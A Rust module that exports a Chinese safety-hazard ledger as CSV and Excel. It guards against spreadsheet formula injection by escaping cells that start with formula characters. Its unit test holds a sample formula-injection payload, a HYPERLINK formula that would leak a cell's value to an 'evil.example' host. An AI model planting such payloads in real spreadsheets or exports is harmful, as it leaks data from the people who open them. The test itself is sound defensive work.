//! The hazard ledger (隐患排查治理台账): one row per hazard with the columns the regulators keep on
//! paper (time, part of the site, participants, hazard, grade, measure, funds, responsible person,
//! deadline, progress, re-inspection result, re-inspector and date, closure date, and for a major
//! hazard when and to whom it was reported), for any role within its scope, as JSON, as CSV that
//! Chinese Excel opens correctly (UTF-8 with a byte-order mark) and as an Excel workbook.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use crate::ApiError;
use crate::db::{Db, LedgerEvent, LedgerHazard, LedgerQuery};

/// The most rows one export holds; a wider selection is refused with a request to narrow it.
pub const MAX_LEDGER_ROWS: usize = 50_000;

/// The columns: the field of [`LedgerRow`], its Chinese head and its English head.
pub const COLUMNS: &[(&str, &str, &str)] = &[
    ("hazard_id", "隐患编号", "Hazard id"),
    ("found_at", "排查时间", "Found at"),
    ("township", "所属乡镇", "Township"),
    ("enterprise", "企业名称", "Enterprise"),
    ("agency", "服务机构", "Agency"),
    ("location", "排查部位", "Part of the site"),
    ("participants", "参加人员", "Participants"),
    ("description", "隐患描述", "Hazard"),
    ("category", "隐患类别", "Category"),
    ("grade", "隐患等级", "Grade"),
    ("measure", "整改措施", "Measure"),
    ("funds_yuan", "整改资金（元）", "Funds (yuan)"),
    ("responsible_person", "整改责任人", "Responsible person"),
    ("deadline", "整改期限", "Deadline"),
    ("progress", "整改进展", "Progress"),
    ("reinspection_result", "复查结果", "Re-inspection result"),
    ("reinspector", "复查人", "Re-inspector"),
    ("reinspected_on", "复查日期", "Re-inspection date"),
    ("closed_on", "销号日期", "Closure date"),
    (
        "reported_at",
        "重大隐患报告时间",
        "Major hazard reported at",
    ),
    ("reported_to", "报告对象", "Reported to"),
];

/// Filters of the ledger routes. `from` and `to` are China dates (inclusive) on when the
/// hazard was found.
#[derive(Debug, Default, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LedgerFilter {
    pub township: Option<String>,
    pub agency: Option<String>,
    pub enterprise: Option<String>,
    pub from: Option<String>,
    pub to: Option<String>,
    pub grade: Option<String>,
    pub state: Option<String>,
}

/// One row of the ledger, every value as a person reads it (Chinese labels, China times).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LedgerRow {
    pub hazard_id: String,
    /// `YYYY-MM-DD HH:MM`, China Standard Time.
    pub found_at: String,
    pub township: String,
    pub enterprise: String,
    pub agency: String,
    pub location: String,
    /// The visit's inspectors, then the enterprise's signer, separated by `、`.
    pub participants: String,
    pub description: String,
    pub category: String,
    pub grade: String,
    pub measure: String,
    /// Empty when none was set.
    pub funds_yuan: String,
    pub responsible_person: String,
    pub deadline: String,
    /// The state, with `（已逾期）` when the rectification is overdue.
    pub progress: String,
    /// `通过` or `不通过`, with the re-inspector's remark; empty before any re-inspection.
    pub reinspection_result: String,
    pub reinspector: String,
    pub reinspected_on: String,
    pub closed_on: String,
    pub reported_at: String,
    pub reported_to: String,
}

impl LedgerRow {
    /// The values in the order of [`COLUMNS`].
    pub fn values(&self) -> [&str; 21] {
        [
            &self.hazard_id,
            &self.found_at,
            &self.township,
            &self.enterprise,
            &self.agency,
            &self.location,
            &self.participants,
            &self.description,
            &self.category,
            &self.grade,
            &self.measure,
            &self.funds_yuan,
            &self.responsible_person,
            &self.deadline,
            &self.progress,
            &self.reinspection_result,
            &self.reinspector,
            &self.reinspected_on,
            &self.closed_on,
            &self.reported_at,
            &self.reported_to,
        ]
    }
}

fn bad_filter(zh: String, en: String) -> ApiError {
    ApiError::bad_request("bad_filter", zh, en)
}

/// Checks the filter and turns it into a query over `enterprise_ids` (the caller's read scope).
pub fn query_of(
    filter: &LedgerFilter,
    enterprise_ids: Vec<String>,
    own_agency: Option<String>,
) -> Result<LedgerQuery, ApiError> {
    let non_empty = |v: &Option<String>| v.clone().filter(|v| !v.trim().is_empty());
    let grade = non_empty(&filter.grade);
    if let Some(g) = &grade {
        sync_core::domain::Grade::parse(g).map_err(|e| {
            bad_filter(
                format!("隐患等级筛选无效：{e}（应为 general 或 major）"),
                format!("bad grade filter: {e} (general or major)"),
            )
        })?;
    }
    let state = non_empty(&filter.state);
    if let Some(s) = &state
        && !STATES.contains(&s.as_str())
    {
        let shown: String = s.chars().take(40).collect();
        return Err(bad_filter(
            format!("状态筛选无效：{shown}（应为 {}）", STATES.join("、")),
            format!("bad state filter {shown:?} (one of {})", STATES.join(", ")),
        ));
    }
    let found = crate::api::hazards::started_between(filter.from.as_deref(), filter.to.as_deref())?;
    Ok(LedgerQuery {
        filters: crate::db::HazardFilters {
            enterprises: enterprise_ids,
            own_agency,
            township: non_empty(&filter.township),
            agency: non_empty(&filter.agency),
            enterprise: non_empty(&filter.enterprise),
            grade,
            state,
        },
        found_from: found.from,
        found_until: found.until,
        limit: MAX_LEDGER_ROWS + 1,
    })
}

const STATES: &[&str] = &[
    "open",
    "notified",
    "in_progress",
    "submitted",
    "accepted",
    "closed",
];

/// The ledger rows of `query`, oldest first; `today` (China date) decides what is overdue.
pub async fn rows(
    db: &Db,
    query: &LedgerQuery,
    today: jiff::civil::Date,
) -> Result<Vec<LedgerRow>, ApiError> {
    let hazards = db.ledger_hazards(query).await?;
    if hazards.len() > MAX_LEDGER_ROWS {
        return Err(ApiError::invalid(
            "ledger_too_large",
            format!("所选隐患超过 {MAX_LEDGER_ROWS} 条，请缩小筛选范围（乡镇、企业或日期）"),
            format!(
                "more than {MAX_LEDGER_ROWS} hazards selected: narrow the filter (township, enterprise or dates)"
            ),
        ));
    }
    let events = db.ledger_events(query).await?;
    let mut people: BTreeSet<String> = BTreeSet::new();
    for h in &hazards {
        people.extend(h.inspectors.iter().cloned());
    }
    people.extend(events.iter().map(|e| e.author.clone()));
    let names = db.display_names(&people).await?;
    let name = |id: &str| names.get(id).cloned().unwrap_or_else(|| id.to_owned());
    let today = today.to_string();

    let mut by_hazard: std::collections::HashMap<&str, Vec<&LedgerEvent>> =
        std::collections::HashMap::new();
    for e in &events {
        by_hazard.entry(e.hazard_id.as_str()).or_default().push(e);
    }
    Ok(hazards
        .iter()
        .map(|h| {
            let evs = by_hazard
                .get(h.id.as_str())
                .map(Vec::as_slice)
                .unwrap_or(&[]);
            row_of(h, evs, &name, &today)
        })
        .collect())
}

fn row_of(
    h: &LedgerHazard,
    events: &[&LedgerEvent],
    name: &dyn Fn(&str) -> String,
    today: &str,
) -> LedgerRow {
    let mut participants: Vec<String> = h.inspectors.iter().map(|i| name(i)).collect();
    if let Some(s) = h.signed_by.as_deref().filter(|s| !s.is_empty()) {
        participants.push(format!("{s}（企业）"));
    }
    let grade = sync_core::domain::Grade::parse(&h.grade)
        .map(|g| g.label_zh().to_owned())
        .unwrap_or_else(|_| h.grade.clone());
    let category = sync_core::domain::HAZARD_CATEGORIES
        .iter()
        .find(|(c, _, _)| *c == h.category)
        .map(|(_, zh, _)| (*zh).to_owned())
        .unwrap_or_else(|| h.category.clone());
    let owed = matches!(h.state.as_str(), "open" | "notified" | "in_progress");
    let overdue = owed && h.deadline.as_deref().is_some_and(|d| d < today);
    let mut progress = state_label(&h.state).to_owned();
    if overdue {
        progress.push_str("（已逾期）");
    }
    let last_verified = events.iter().rev().find(|e| e.kind == "verified");
    let (reinspection_result, reinspector, reinspected_on) = match last_verified {
        Some(e) => {
            let accepted = e.detail.get("accepted").and_then(|v| v.as_bool()) == Some(true);
            let note = e.detail.get("note").and_then(|v| v.as_str()).unwrap_or("");
            let mut result = if accepted { "通过" } else { "不通过" }.to_owned();
            if !note.trim().is_empty() {
                result.push('：');
                result.push_str(note.trim());
            }
            (result, name(&e.author), date_of(e.at))
        }
        None => Default::default(),
    };
    let report = events.iter().find(|e| e.kind == "reported_to_regulator");
    let (reported_at, reported_to) = match (report, h.auto_reported_at) {
        (Some(e), _) => (
            time_of(e.at),
            e.detail
                .get("to")
                .and_then(|v| v.as_str())
                .unwrap_or("")
                .to_owned(),
        ),
        (None, Some(at)) => (time_of(at), format!("{}（系统自动报送）", h.township_name)),
        (None, None) => Default::default(),
    };
    LedgerRow {
        hazard_id: h.id.clone(),
        found_at: time_of(h.created_at),
        township: h.township_name.clone(),
        enterprise: h.enterprise_name.clone(),
        agency: h.agency_name.clone(),
        location: h.location.clone(),
        participants: participants.join("、"),
        description: h.description.clone(),
        category,
        grade,
        measure: h.measure.clone(),
        funds_yuan: h.funds_yuan.map(|f| f.to_string()).unwrap_or_default(),
        responsible_person: h.responsible_person.clone(),
        deadline: h.deadline.clone().unwrap_or_default(),
        progress,
        reinspection_result,
        reinspector,
        reinspected_on,
        closed_on: h.closed_at.map(date_of).unwrap_or_default(),
        reported_at,
        reported_to,
    }
}

fn state_label(state: &str) -> &str {
    use sync_core::rectification::HazardState::*;
    [Open, Notified, InProgress, Submitted, Accepted, Closed]
        .into_iter()
        .find(|s| s.as_str() == state)
        .map(|s| s.label_zh())
        .unwrap_or(state)
}

fn zoned(ms: i64) -> jiff::Zoned {
    crate::clock::from_millis(ms).to_zoned(crate::clock::china_standard_time())
}

/// `YYYY-MM-DD HH:MM` in China Standard Time.
fn time_of(ms: i64) -> String {
    zoned(ms).strftime("%Y-%m-%d %H:%M").to_string()
}

fn date_of(ms: i64) -> String {
    zoned(ms).date().to_string()
}

/// The head of column `i`: Chinese, then English.
pub fn head(i: usize) -> String {
    let (_, zh, en) = COLUMNS[i];
    format!("{zh} / {en}")
}

/// The ledger as CSV: UTF-8 with a byte-order mark (without it Chinese Excel reads the file
/// as GBK and shows mojibake), CRLF line ends, a header row.
pub fn to_csv(rows: &[LedgerRow]) -> Result<Vec<u8>, ApiError> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        let heads: Vec<String> = (0..COLUMNS.len()).map(head).collect();
        w.write_record(&heads).map_err(internal)?;
        for r in rows {
            w.write_record(r.values().iter().map(|v| csv_safe(v).into_owned()))
                .map_err(internal)?;
        }
        w.flush().map_err(|e| internal(csv::Error::from(e)))?;
    }
    Ok(out)
}

/// A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, tab, CR) is prefixed with
/// an apostrophe, so that text from a phone cannot run as a formula on a regulator's desk.
fn csv_safe(v: &str) -> std::borrow::Cow<'_, str> {
    match v.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{v}").into(),
        _ => v.into(),
    }
}

fn internal(e: impl std::fmt::Display) -> ApiError {
    ApiError::Internal(anyhow::anyhow!("ledger export failed: {e}"))
}

/// The ledger as an Excel workbook: one sheet 隐患台账 with a bold, frozen header row and a
/// filter on every column. Text is written as text (never as a formula).
pub fn to_xlsx(rows: &[LedgerRow]) -> Result<Vec<u8>, ApiError> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("隐患台账").map_err(internal)?;
    let bold = Format::new().set_bold().set_text_wrap();
    let wrap = Format::new().set_text_wrap();
    for (i, _) in COLUMNS.iter().enumerate() {
        let col = i as u16;
        sheet
            .write_string_with_format(0, col, head(i), &bold)
            .map_err(internal)?;
        let width = match COLUMNS[i].0 {
            "description" | "measure" | "reinspection_result" => 36.0,
            "hazard_id" => 38.0,
            "found_at" | "reported_at" | "enterprise" | "participants" | "location" => 20.0,
            _ => 14.0,
        };
        sheet.set_column_width(col, width).map_err(internal)?;
    }
    for (r, row) in rows.iter().enumerate() {
        let r = (r + 1) as u32;
        for (c, value) in row.values().iter().enumerate() {
            if value.is_empty() {
                continue;
            }
            if c == 11
                && let Ok(n) = value.parse::<i64>()
            {
                sheet
                    .write_number(r, c as u16, n as f64)
                    .map_err(internal)?;
                continue;
            }
            sheet
                .write_string_with_format(r, c as u16, *value, &wrap)
                .map_err(internal)?;
        }
    }
    sheet.set_freeze_panes(1, 0).map_err(internal)?;
    sheet
        .autofilter(0, 0, rows.len() as u32, (COLUMNS.len() - 1) as u16)
        .map_err(internal)?;
    book.save_to_buffer().map_err(internal)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(description: &str) -> LedgerRow {
        LedgerRow {
            hazard_id: "h".into(),
            found_at: "2026-02-10 10:00".into(),
            township: String::new(),
            enterprise: String::new(),
            agency: String::new(),
            location: "@SUM(A1)".into(),
            participants: String::new(),
            description: description.into(),
            category: String::new(),
            grade: String::new(),
            measure: "+1+1".into(),
            funds_yuan: String::new(),
            responsible_person: "-2".into(),
            deadline: String::new(),
            progress: String::new(),
            reinspection_result: String::new(),
            reinspector: String::new(),
            reinspected_on: String::new(),
            closed_on: String::new(),
            reported_at: String::new(),
            reported_to: String::new(),
        }
    }

    /// An inspector (or anyone writing a hazard) types a formula: the regulator's spreadsheet
    /// must show it as text, never run it.
    #[test]
    fn text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx() {
        let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")";
        let csv = to_csv(&[row(evil)]).expect("csv");
        let text = String::from_utf8(csv[3..].to_vec()).expect("utf-8");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .next()
            .expect("a row")
            .expect("row")
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(cells[7], format!("'{evil}"));
        assert_eq!(cells[5], "'@SUM(A1)");
        assert_eq!(cells[10], "'+1+1");
        assert_eq!(cells[12], "'-2");
        // In the workbook the cell is a string, so the sheet holds no formula element at all.
        let xlsx = to_xlsx(&[row(evil)]).expect("xlsx");
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("zip");
        let mut sheet = String::new();
        std::io::Read::read_to_string(
            &mut zip.by_name("xl/worksheets/sheet1.xml").expect("sheet"),
            &mut sheet,
        )
        .expect("read");
        assert!(!sheet.contains("<f>"), "a formula in the sheet: {sheet}");
    }
}
